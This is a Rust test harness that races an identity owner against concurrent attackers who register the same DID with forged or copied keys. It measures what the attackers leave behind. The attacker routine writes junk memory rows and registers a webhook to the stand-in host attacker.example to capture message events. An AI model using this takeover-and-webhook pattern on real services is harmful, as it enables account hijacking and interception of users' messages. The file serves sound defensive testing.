//! Races between an owner and attackers who want one DID at the same moment.
//!
//! The attackers know everything that is public. They register the DID with made-up keys, or with a copy of the owner's
//! signed prekey. As long as the API keys that they get work, they use them to leave something that the owner would
//! inherit.

use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};

use heliograph_core::crypto::client::{Client as Sdk, Options};
use heliograph_core::crypto::{Secret, boxes};
use serde_json::{Value, json};

use crate::client::Client;
use crate::relay::{Agent, base64, bytes, made_up_like, proof, seed};

/// A new identity, and the body of its registration as present clients make it.
pub fn owner() -> (Sdk, Value) {
    let sdk = Sdk::new("svc", seed(), Options { post_quantum: false, ..Options::default() });
    let body = sdk.key_body(None, 1);
    (sdk, body)
}

/// A registration of `body`'s DID with a signing key that nobody holds.
pub fn made_up(body: &Value) -> Value {
    let key = made_up_like(&bytes(&body["signing_public_key"]).try_into().unwrap());
    json!({ "signing_public_key": base64(&key), "encryption_public_key": encryption_key() })
}

/// The public part of an identity, which anybody can copy, with an encryption key of the attacker.
pub fn copied(body: &Value) -> Value {
    let mut copy = body.clone();
    copy["encryption_public_key"] = encryption_key().into();
    copy
}

/// An encryption key that the attacker holds.
pub fn encryption_key() -> String {
    base64(&boxes::box_public_key(&Secret::new(seed())))
}

/// The result of one race.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Race {
    /// Registrations that attackers got, before or after the owner's.
    pub registered: u64,
    /// Rows that attackers wrote under the DID while their registrations lasted.
    pub written: u64,
    /// How many of these rows the owner found afterwards.
    pub left: u64,
    /// Attackers' API keys that still opened something in the end.
    pub open: u64,
    /// Races after which the DID does not show the owner's keys as proved.
    pub lost: u64,
}

impl std::ops::AddAssign for Race {
    fn add_assign(&mut self, other: Race) {
        self.registered += other.registered;
        self.written += other.written;
        self.left += other.left;
        self.open += other.open;
        self.lost += other.lost;
    }
}

/// Runs one race of an owner with a proof against `attackers`, each of whom tries three times. `client` makes clients
/// with connections of their own.
pub fn run(client: &(impl Fn() -> Client + Sync), attackers: usize) -> Race {
    let (sdk, body) = owner();
    let mut right = body.clone();
    right["proof"] = proof(&client(), &sdk, &body, None);
    let (begun, over, written) = (AtomicBool::new(attackers == 0), AtomicBool::new(false), AtomicU64::new(0));
    let attack = |number: usize| {
        (0..3).filter_map(|turn| attack(&client(), &body, number + turn, &begun, &over, &written)).collect::<Vec<_>>()
    };
    let attack = &attack;
    let (owner, keys) = std::thread::scope(|scope| {
        let attacks: Vec<_> = (0..attackers).map(|number| scope.spawn(move || attack(number))).collect();
        // The owner registers while the attackers are busy.
        while !begun.load(Ordering::Relaxed) {
            std::thread::yield_now();
        }
        let owner = Agent::register(&client(), &right);
        over.store(true, Ordering::Relaxed);
        (owner, attacks.into_iter().flat_map(|attack| attack.join().unwrap()).collect::<Vec<_>>())
    });
    let shown = client().get(&format!("/v1/agent/identity/{}", sdk.did)).expect(200);
    let names = ["signing_public_key", "encryption_public_key"];
    let holds = names.iter().all(|name| shown[name] == body[name]) && shown["standing"] == "proved";
    let opens = |key: &&String| client().agent(key).get("/v1/agent/profile").status == 200;
    Race {
        registered: keys.len() as u64,
        written: written.into_inner(),
        left: left(&owner),
        open: keys.iter().filter(opens).count() as u64,
        lost: u64::from(!holds),
    }
}

/// Most rows that an attacker writes under one API key.
const WRITES: usize = 40;

/// Registers the DID and writes under it until its API key ends, or until a little after the owner registered; returns
/// the key.
fn attack(
    client: &Client,
    body: &Value,
    number: usize,
    begun: &AtomicBool,
    over: &AtomicBool,
    written: &AtomicU64,
) -> Option<String> {
    let answer =
        client.post("/v1/agent/register", &if number.is_multiple_of(2) { made_up(body) } else { copied(body) });
    begun.store(true, Ordering::Relaxed);
    let key = answer.json()["api_key"].as_str()?.to_owned();
    let agent = client.agent(&key);
    let put = |path: &str, value: Value| {
        let body = value.to_string();
        agent.send("PUT", path, Some("application/json"), body.as_bytes()).status
    };
    for n in 0..WRITES {
        let was_over = over.load(Ordering::Relaxed);
        let status = match n % 8 {
            0 => {
                let hook = json!({ "webhook_url": "https://attacker.example/hook", "events": ["message"] });
                agent.post("/v1/agent/webhooks", &hook).status
            }
            _ => put(&format!("/v1/agent/memory/spoil/{number}-{n}"), json!({ "value": "spoilt" })),
        };
        written.fetch_add(u64::from(matches!(status, 200 | 201)), Ordering::Relaxed);
        if status == 401 || was_over {
            break;
        }
    }
    Some(key)
}

/// Number of rows that the owner has but never wrote.
fn left(owner: &Agent) -> u64 {
    let count = |path: &str, list: &str| {
        let found = owner.client.get(path).expect(200);
        found[list].as_array().unwrap_or_else(|| panic!("no {list} in {found}")).len() as u64
    };
    count("/v1/agent/webhooks", "webhooks") + count("/v1/agent/memory", "namespaces")
}
